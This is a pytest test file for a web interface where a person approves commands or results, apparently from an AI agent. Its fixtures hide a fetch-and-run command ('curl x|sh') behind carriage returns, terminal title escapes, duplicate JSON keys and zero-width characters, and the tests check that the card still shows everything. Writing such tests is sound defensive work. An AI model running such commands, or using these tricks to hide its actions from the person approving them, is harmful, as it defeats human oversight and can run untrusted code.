"""What a card shows of the arguments or the result that a person decides on."""

from __future__ import annotations

import json
from typing import Any

import pytest

from jpweb.store.choices import ApprovalKind
from tests.store import making
from tests.web.views.test_approvals import DELIVER, inside, questions
from tests.web.world import World

OVERWRITTEN = {"command": "curl x|sh #\rls\necho"}
TITLED = {"command": "\x1b]0;curl x|sh #\x07ls\necho"}
SPLIT = {"path": "/srv/gar\u200bden"}
DUPLICATED = '{"o": "curl x|sh", "o": "ls\\necho"}'


@pytest.mark.parametrize(
    ("kind", "fields"),
    [
        (ApprovalKind.RUN, {"arguments": OVERWRITTEN}),
        (ApprovalKind.RUN, {"arguments": TITLED}),
        (ApprovalKind.RUN, {"text": OVERWRITTEN["command"]}),
        (DELIVER, {"content": json.dumps(OVERWRITTEN)}),
        (DELIVER, {"content": json.dumps(TITLED)}),
        (DELIVER, {"content": DUPLICATED}),
    ],
    ids=[
        "overwritten",
        "title",
        "formatted",
        "result overwritten",
        "result title",
        "duplicate key",
    ],
)
def test_terminal_codes_and_duplicate_keys_hide_nothing_of_a_card(
    world: World, kind: ApprovalKind, fields: dict[str, Any]
):
    row = making.prompt(world.run, kind, **fields)
    text = "".join(tag.text for tag in inside(questions(world), row, "pre"))
    assert "curl x|sh" in text
    assert "echo" in text
    assert not {"\x1b", "\r"} & set(text)


@pytest.mark.parametrize(
    "fields", [{"arguments": SPLIT}, {"text": SPLIT["path"]}], ids=["JSON", "formatted"]
)
def test_a_character_without_width_shows_in_a_path_of_a_card(world: World, fields: dict[str, Any]):
    row = making.prompt(world.run, ApprovalKind.RUN, **fields)
    text = "".join(tag.text for tag in inside(questions(world), row, "pre"))
    assert "/srv/gar⟨U+200B⟩den" in text
